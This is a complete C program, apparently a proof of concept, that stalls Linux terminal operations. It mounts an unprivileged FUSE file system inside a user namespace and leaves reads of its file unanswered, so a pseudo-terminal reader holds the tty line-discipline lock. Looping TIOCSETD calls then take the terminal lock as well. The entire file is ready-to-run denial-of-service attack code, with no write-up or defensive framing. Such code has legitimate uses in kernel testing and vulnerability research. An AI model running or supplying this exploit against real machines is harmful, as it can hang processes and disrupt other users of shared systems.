/* Blocks processes that open, write to or query terminals of the calling unprivileged user.
 *
 *   stall TERMINALS LOOPS SECONDS
 *
 * Each terminal is read into memory that a FUSE file system of the user never delivers, so that
 * the reader keeps the lock of the line discipline (drivers/tty/tty_ldisc.c). LOOPS processes set
 * the line discipline continuously, so that the lock of the terminal is taken as well. All processes
 * end after SECONDS. Requires user namespaces and a /dev/fuse that users may open.
 */
#define _GNU_SOURCE
#include <err.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#define PAGE 4096
#define FILE_NODE 2

static unsigned seconds;

static void put(const char *path, const char *text)
{
	int file = open(path, O_WRONLY);

	if (file < 0 || write(file, text, strlen(text)) < 0)
		err(1, "%s", path);
	close(file);
}

/* Enters a user namespace in which mount(2) is permitted. */
static void enter_namespace(void)
{
	char map[64];
	unsigned uid = getuid(), gid = getgid();

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		err(1, "unshare");
	put("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "%u %u 1", uid, uid);
	put("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "%u %u 1", gid, gid);
	put("/proc/self/gid_map", map);
}

static void answer(int fuse, unsigned long long unique, int error, const void *body, size_t length)
{
	struct {
		struct fuse_out_header head;
		char body[512];
	} reply;

	memset(&reply, 0, sizeof(reply));
	reply.head.len = sizeof(reply.head) + length;
	reply.head.error = error;
	reply.head.unique = unique;
	memcpy(reply.body, body, length);
	/* The process that sent the request may have been killed. */
	if (write(fuse, &reply, reply.head.len) < 0)
		return;
}

static void describe(struct fuse_attr *attr, unsigned long long node)
{
	attr->ino = node;
	attr->mode = node == FILE_NODE ? S_IFREG | 0600 : S_IFDIR | 0700;
	attr->nlink = 1;
	attr->size = node == FILE_NODE ? 16 * PAGE : 0;
	attr->blksize = PAGE;
	attr->uid = getuid();
	attr->gid = getgid();
}

/* Serves a file system with one file, and never replies to a read of it. */
static void serve(int fuse)
{
	static char request[1 << 18];
	struct fuse_in_header *head = (void *)request;

	alarm(seconds);
	while (read(fuse, request, sizeof(request)) > 0) {
		switch (head->opcode) {
		case FUSE_INIT: {
			struct fuse_init_in *in = (void *)(head + 1);
			struct fuse_init_out out = {
				.major = 7,
				.minor = in->minor < 31 ? in->minor : 31,
				.max_write = PAGE,
			};
			answer(fuse, head->unique, 0, &out, sizeof(out));
			break;
		}
		case FUSE_LOOKUP: {
			struct fuse_entry_out out = {
				.nodeid = FILE_NODE, .entry_valid = 3600, .attr_valid = 3600,
			};
			describe(&out.attr, FILE_NODE);
			answer(fuse, head->unique, 0, &out, sizeof(out));
			break;
		}
		case FUSE_GETATTR: {
			struct fuse_attr_out out = { .attr_valid = 3600 };
			describe(&out.attr, head->nodeid);
			answer(fuse, head->unique, 0, &out, sizeof(out));
			break;
		}
		case FUSE_OPEN: {
			struct fuse_open_out out = { .fh = 1 };
			answer(fuse, head->unique, 0, &out, sizeof(out));
			break;
		}
		case FUSE_READ:
		case FUSE_FORGET:
		case FUSE_BATCH_FORGET:
		case FUSE_INTERRUPT:
			break;
		default:
			answer(fuse, head->unique, -38 /* ENOSYS */, "", 0);
		}
	}
}

static void mount_file_system(const char *directory)
{
	char options[128];
	int fuse = open("/dev/fuse", O_RDWR | O_CLOEXEC);

	if (fuse < 0)
		err(1, "/dev/fuse");
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=%u,group_id=%u", fuse,
		 getuid(), getgid());
	if (mkdir(directory, 0700) < 0 || mount("stall", directory, "fuse", MS_NOSUID | MS_NODEV, options) < 0)
		err(1, "mount");
	if (fork() == 0) {
		serve(fuse);
		_exit(0);
	}
	close(fuse);
}

/* Never returns from the read: the page fault on its buffer is never resolved. */
static void hold_line_discipline(int terminal, const char *path)
{
	int file = open(path, O_RDWR);
	void *memory = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);

	if (file < 0 || memory == MAP_FAILED)
		err(1, "%s", path);
	if (read(terminal, memory, 64) < 0)
		_exit(1);
	_exit(0);
}

static void take_lock_of(int terminal)
{
	int discipline = 0; /* N_TTY */

	alarm(seconds);
	for (;;)
		ioctl(terminal, TIOCSETD, &discipline);
}

static void stall(const char *name, const char *path, int loops)
{
	int terminal;

	setsid();
	alarm(seconds);
	signal(SIGHUP, SIG_IGN);
	terminal = open(name, O_RDWR);
	if (terminal < 0 || ioctl(terminal, TIOCSCTTY, 0) < 0)
		err(1, "%s", name);
	if (fork() == 0)
		hold_line_discipline(terminal, path);
	/* The reader must take its lock first. */
	sleep(1);
	while (loops-- > 0)
		if (fork() == 0)
			take_lock_of(terminal);
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	char directory[64], path[80];
	int terminals, loops;

	if (argc != 4)
		errx(2, "stall TERMINALS LOOPS SECONDS");
	terminals = atoi(argv[1]);
	loops = atoi(argv[2]);
	seconds = atoi(argv[3]);
	snprintf(directory, sizeof(directory), "/tmp/stall-%d", getpid());
	snprintf(path, sizeof(path), "%s/file", directory);
	enter_namespace();
	mount_file_system(directory);
	for (int i = 0; i < terminals; i++) {
		int master = posix_openpt(O_RDWR | O_NOCTTY);
		char *name;

		if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0 || !(name = ptsname(master)))
			err(1, "a terminal");
		if (fork() == 0)
			stall(name, path, loops);
		if (write(master, "x\n", 2) < 0)
			err(1, "%s", name);
	}
	sleep(2);
	printf("stalling %d-%s\n", terminals, "terminals");
	fflush(stdout);
	sleep(seconds);
	return 0;
}
